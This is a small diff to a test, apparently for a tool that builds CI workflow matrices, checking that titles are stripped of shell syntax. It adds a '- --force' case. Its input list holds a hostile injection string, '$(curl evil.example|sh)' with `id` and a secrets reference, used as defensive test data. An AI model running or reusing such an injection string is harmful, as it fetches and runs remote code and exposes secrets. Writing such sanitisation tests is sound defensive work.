@@ -30,6 +30,7 @@ it('gives a workflow no title that a shell would run', () => {
     'packages/core @2.0',
     '$(curl evil.example|sh) `id`; "x\' \\ ${{ secrets.KEY }} > a & *',
     '-rf über',
+    '- --force',
     '\u202E!'
   ]
   const { include } = JSON.parse(matrixOf(titles.map((title) => ({ ...item, title })))) as {
@@ -39,6 +40,7 @@ it('gives a workflow no title that a shell would run', () => {
     'packages/core @2.0',
     'curl evil.example sh id x secrets.KEY a',
     'rf über',
+    'force',
     'a'
   ])
 })
